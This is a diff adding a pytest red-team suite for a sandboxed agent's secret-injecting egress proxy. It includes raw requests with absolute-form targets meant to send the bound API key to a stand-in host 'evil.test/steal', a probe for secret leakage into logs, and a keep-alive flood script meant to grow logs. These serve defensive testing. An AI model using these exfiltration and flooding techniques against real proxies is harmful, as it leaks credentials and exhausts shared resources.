@@ -1,0 +1,302 @@
+"""Red team of session 32, egress and secrets: what a request inside a terminated
+connection can make the bound server do with the secret swapped in, and what the proxy
+does with a secret it cannot put in a header.
+
+One agent (rteg) with two bindings to ``api.test:443``: the secret ``apikey`` in
+``x-api-key: {}`` (env API_KEY) and the secret ``spacey`` in ``x-spacey: {}`` (env
+SPACEY_KEY), whose value ends with a space (a key pasted with one; printable ASCII, which
+``secret_set`` accepts). ``api.test`` and ``evil.test`` (``[egress] hosts``) are one
+address in a test network namespace (198.18.182.0/24), served by one nginx with a
+certificate for both (a test CA the proxy trusts through ``[egress] upstream_ca``): a
+shared front end, a CDN or an ingress with a tenant's virtual host beside the API's. The
+api.test virtual host says whether the key it got is the real one (never echoes it); the
+evil.test one, the tenant's, echoes the x-api-key it got. The agent's rules open only
+``api.test:443`` (and its address, which the test range needs); never evil.test.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from helpers import assert_ok
+from hive_fixture import HiveProcess, probe_result, running_hive
+from testnet import TestNet
+
+from .test_secrets_egress import cert_dir
+
+AGENT = "rteg"
+KEY = "sk-live-REAL-" + "q7" * 16
+SPACEY = "sk-spacey-REAL-" + "z9" * 12 + " "  # a trailing space: printable ASCII
+NET = TestNet(182, prefix="hvre")
+FRONT = NET.address(2)
+HOSTS = {"api.test": FRONT, "evil.test": FRONT}
+BINDINGS = """
+[[secret_binding]]
+secret = "apikey"
+agents = ["rteg"]
+to = "api.test:443"
+header = "x-api-key: {}"
+env = "API_KEY"
+
+[[secret_binding]]
+secret = "spacey"
+agents = ["rteg"]
+to = "api.test:443"
+header = "x-spacey: {}"
+env = "SPACEY_KEY"
+"""
+
+# One nginx (no master process: nothing outlives its kill), two virtual hosts on one
+# address and port.
+NGINX = """
+master_process off;
+daemon off;
+worker_processes 1;
+pid {d}/nginx.pid;
+error_log {d}/error.log;
+events {{}}
+http {{
+  access_log off;
+  client_body_temp_path {d}; proxy_temp_path {d}; fastcgi_temp_path {d};
+  uwsgi_temp_path {d}; scgi_temp_path {d};
+  map $http_x_api_key $key_ok {{ "{key}" yes; default no; }}
+  server {{
+    listen {addr}:443 ssl; server_name api.test;
+    ssl_certificate {d}/server.pem; ssl_certificate_key {d}/server.pem;
+    location / {{ return 200 "api.test vhost: key_ok=$key_ok uri=$request_uri\\n"; }}
+  }}
+  server {{
+    listen {addr}:443 ssl; server_name evil.test;
+    ssl_certificate {d}/server.pem; ssl_certificate_key {d}/server.pem;
+    location / {{ return 200 "evil.test vhost got x-api-key=$http_x_api_key\\n"; }}
+  }}
+}}
+"""
+
+
+@pytest.fixture(scope="module")
+def certs() -> Iterator[tuple[Path, str]]:
+    with cert_dir("hvre", "rt32 upstream CA", "shared front end", list(HOSTS)) as (d, ca_pem):
+        yield d, ca_pem.decode()
+
+
+@pytest.fixture(scope="module")
+def net(certs: tuple[Path, str]) -> Iterator[TestNet]:
+    d = certs[0]
+    (d / "nginx.conf").write_text(NGINX.format(d=d, key=KEY, addr=FRONT))
+    with NET as n:
+        n.serve(FRONT, 443, ["nginx", "-p", str(d), "-c", str(d / "nginx.conf")])
+        yield n
+
+
+@pytest.fixture(scope="module")
+def hive(net: TestNet, certs: tuple[Path, str]) -> Iterator[HiveProcess]:
+    agents = {AGENT: {"runtime": "command", "command": ["true"], "egress": ["api.test:443", f"{FRONT}:443"]}}
+    h = HiveProcess(agents, sections={"egress": {"hosts": HOSTS, "upstream_ca": str(certs[0] / "ca.pem")}})
+    h.config_path.write_text(h.config_path.read_text() + BINDINGS)
+    h.write_config = lambda agents: None  # type: ignore[method-assign]  # keep the bindings
+    for hv in running_hive(h):
+        assert_ok(hv.host_call("secret_set", name="apikey", value=KEY))
+        hv.spacey_reply = hv.host_call("secret_set", name="spacey", value=SPACEY)  # type: ignore[attr-defined]
+        yield hv
+
+
+# In the cage: each case is [CONNECT host, SNI, raw request with {API_KEY} / {SPACEY_KEY}
+# standing for the placeholders in this process's environment]; one connection each.
+TUNNEL = r"""
+import ssl
+
+def tunnel(host, sni, raw):
+    raw = raw.replace("{API_KEY}", os.environ.get("API_KEY", "?")).replace(
+        "{SPACEY_KEY}", os.environ.get("SPACEY_KEY", "?"))
+    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
+    s.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
+    head = b""
+    while b"\r\n\r\n" not in head:
+        chunk = s.recv(4096)
+        if not chunk:
+            return {"connect": head.decode(errors="replace")}
+        head += chunk
+    if not head.startswith(b"HTTP/1.1 200"):
+        return {"connect": head.decode(errors="replace")}
+    try:
+        ctx = ssl.create_default_context(cafile="/run/hive/ca-bundle.pem")
+        t = ctx.wrap_socket(s, server_hostname=sni)
+    except (ssl.SSLError, OSError) as e:
+        return {"tls": type(e).__name__ + ": " + str(e)}
+    t.sendall(raw.encode("latin-1"))
+    out = b""
+    while True:
+        try:
+            chunk = t.recv(65536)
+        except (OSError, ssl.SSLError) as e:
+            out += b"[" + type(e).__name__.encode() + b"]"
+            break
+        if not chunk:
+            break
+        out += chunk
+    status = out.split(b" ", 2)[1].decode() if out.startswith(b"HTTP/1.1 ") else "0"
+    return {"status": int(status) if status.isdigit() else 0,
+            "body": out.partition(b"\r\n\r\n")[2].decode(errors="replace"),
+            "raw": out.decode(errors="replace")}
+
+env = {k: os.environ.get(k, "") for k in ("API_KEY", "SPACEY_KEY")}
+result(env=env, **{k: tunnel(*v) for k, v in P["cases"].items()})
+"""
+
+
+def get(target: str, host: str, *headers: str) -> str:
+    return "".join([f"GET {target} HTTP/1.1\r\nHost: {host}\r\n", *(h + "\r\n" for h in headers),
+                    "Connection: close\r\n\r\n"])
+
+
+KEYED = "x-api-key: {API_KEY}"
+
+
+@pytest.fixture(scope="module")
+def res(hive: HiveProcess) -> dict[str, Any]:
+    cases = {
+        "origin-form": ("api.test", "api.test", get("/v1/models", "api.test", KEYED)),
+        "absolute-http": ("api.test", "api.test", get("http://evil.test/steal", "api.test", KEYED)),
+        "absolute-https": ("api.test", "api.test", get("https://evil.test/steal", "api.test", KEYED)),
+        "absolute-port": ("api.test", "api.test", get("https://evil.test:443/steal", "api.test:443", KEYED)),
+        "authority-form": ("api.test", "api.test", get("evil.test:443", "api.test", KEYED)),
+        "spacey": ("api.test", "api.test", get("/v1/spacey", "api.test", "x-spacey: {SPACEY_KEY}")),
+    }
+    out = probe_result(hive.probe(AGENT, TUNNEL, timeout=120, cases={k: list(v) for k, v in cases.items()}))
+    assert out["env"]["API_KEY"].startswith("hive-placeholder-"), out["env"]
+    return out
+
+
+@pytest.mark.attack("egress.tls-sni-host", ref="RFC 9112 3.2.2 (absolute-form overrides Host); nginx vhost selection")
+def test_the_bound_key_reaches_only_the_bound_virtual_host(res: dict[str, Any]) -> None:
+    """Inside the TLS the proxy terminated for ``api.test`` (SNI and Host both api.test,
+    as the proxy checks), the request line's target is absolute-form naming another
+    authority: ``GET http://evil.test/steal HTTP/1.1`` with ``Host: api.test`` and the
+    placeholder in the bound header. RFC 9112 3.2.2: a server MUST ignore Host for an
+    absolute-form target and use the target's authority; nginx (and front ends built
+    like it) pick the virtual host by it. The proxy checks Host only and forwards the
+    target as it is, the real key swapped in: a shared front end hands the key to the
+    other tenant's virtual host, which here echoes it into the cage.
+    Safe: a target whose authority is not the destination (or any absolute-form or
+    authority-form target) is refused (400/403) or rewritten to origin-form; the key never
+    reaches evil.test's virtual host and never comes back to the cage."""
+    assert res["origin-form"]["status"] == 200 and "key_ok=yes" in res["origin-form"]["body"], res["origin-form"]
+    leaked = {case: res[case].get("body", res[case]) for case in ("absolute-http", "absolute-https", "absolute-port", "authority-form")
+              if KEY in json.dumps(res[case]) or "evil.test vhost" in res[case].get("body", "")}
+    assert not leaked, ("the bound key reached another virtual host", leaked)
+
+
+@pytest.mark.attack("secrets.store", ref="issue 16 item 1 (no log line carries a value); h11 LocalProtocolError text")
+def test_a_secret_the_proxy_cannot_send_is_not_written_to_the_log(hive: HiveProcess, res: dict[str, Any]) -> None:
+    """The operator sets a key with a trailing space (printable ASCII: ``secret_set``
+    takes it; only CR/LF are stripped). The agent sends the bound header with its
+    placeholder: the proxy builds the upstream request with h11, which refuses a field
+    value with edge whitespace with ``LocalProtocolError("Illegal header value b'<the
+    secret>'")``; ``Terminated.run`` does not catch it, and ``EgressProxy._serve``'s
+    ``log.exception`` writes the traceback, the secret in it, to the core's log, once
+    per request the agent chooses to send.
+    Safe: such a value is refused when set (or the header is trimmed, or the failure is
+    logged without the value); the value is in no log line."""
+    reply = hive.spacey_reply  # type: ignore[attr-defined]
+    time.sleep(0.5)
+    log = hive.log_tail(3000)
+    assert SPACEY.strip() not in log, (reply, res["spacey"], [ln for ln in log.splitlines() if "spacey" in ln.lower() or "Illegal" in ln][:5])
+
+
+# In the cage: P["conns"] kept-alive terminated connections to api.test, each sending the
+# bound header with its placeholder, request after request, for P["seconds"].
+KEEPALIVE_FLOOD = r"""
+import ssl, threading, time
+key = os.environ["API_KEY"]
+req = f"GET /v1/x HTTP/1.1\r\nHost: api.test\r\nx-api-key: {key}\r\n\r\n".encode()
+counts = [0] * P["conns"]
+errors = []
+
+CTX = ssl.create_default_context(cafile="/run/hive/ca-bundle.pem")
+
+def connect():
+    s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
+    s.sendall(b"CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n")
+    head = b""
+    while b"\r\n\r\n" not in head:
+        head += s.recv(4096)
+    return CTX.wrap_socket(s, server_hostname="api.test")
+
+def one(i):
+    end = time.monotonic() + P["seconds"]
+    while time.monotonic() < end:
+        try:
+            run(i, end)
+        except EOFError:
+            continue  # the server's keep-alive limit: connect again
+        except Exception as e:
+            errors.append(type(e).__name__ + ": " + str(e)[:100])
+            return
+
+def run(i, end):
+        t = connect()
+        buf = b""
+        while time.monotonic() < end:
+            t.sendall(req)
+            while True:
+                h, sep, rest = buf.partition(b"\r\n\r\n")
+                if sep:
+                    n = int([l.split(b":")[1] for l in h.split(b"\r\n") if l.lower().startswith(b"content-length")][0])
+                    if len(rest) >= n:
+                        buf = rest[n:]
+                        break
+                chunk = t.recv(65536)
+                if not chunk:
+                    raise EOFError("closed after %d" % counts[i])
+                buf += chunk
+            counts[i] += 1
+        t.close()
+
+th = [threading.Thread(target=one, args=(i,)) for i in range(P["conns"])]
+for x in th: x.start()
+for x in th: x.join()
+result(counts=counts, errors=errors)
+"""
+
+
+def cpu_seconds(pid: int) -> float:
+    fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
+    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
+
+
+@pytest.mark.attack("budget.exhaustion", ref="red team round 22 (refusal log throttled); docs 'a refusal's log line is one an agent every 10 s'")
+def test_kept_alive_requests_with_a_secret_do_not_grow_the_log_a_line_each(hive: HiveProcess) -> None:
+    """The agent keeps 4 terminated connections to its bound destination and sends small
+    requests on them as fast as the answers come, each with the placeholder: the proxy
+    writes ``egress rteg: secret apikey put in x-api-key for api.test:443`` to the core's
+    log for every request, unthrottled (refusals are one line an agent every 10 s; a
+    connection's decisions are bounded by ``connections_per_second``; requests on a
+    kept-alive connection by nothing but the CPU share). The core's log, on the host's
+    disk, grows at the agent's pace.
+    Safe: at most a few lines a second for an agent's injections (a count per period, as
+    for refusals); here, under 200 lines for the whole run."""
+    core = hive.core_pid()
+    assert core is not None
+    before_log = hive.log_path.stat().st_size
+    before_lines = hive.log_tail(10**7).count("put in x-api-key")
+    t0, c0 = time.monotonic(), cpu_seconds(core)
+    out = probe_result(hive.probe(AGENT, KEEPALIVE_FLOOD, timeout=120, conns=4, seconds=10))
+    wall, cpu = time.monotonic() - t0, cpu_seconds(core) - c0
+    time.sleep(1)
+    grew = hive.log_path.stat().st_size - before_log
+    lines = hive.log_tail(10**7).count("put in x-api-key") - before_lines
+    sent = sum(out["counts"])
+    print(f"requests {sent} in {wall:.1f} s; core CPU {cpu / wall:.2f}; log +{grew} B, +{lines} injection lines; {out['errors']}")
+    assert sent > 100, out
+    assert lines < 200, (f"{lines} log lines ({grew} bytes) for {sent} requests in {wall:.1f} s,"
+                         f" core at {cpu / wall:.2f} CPU")
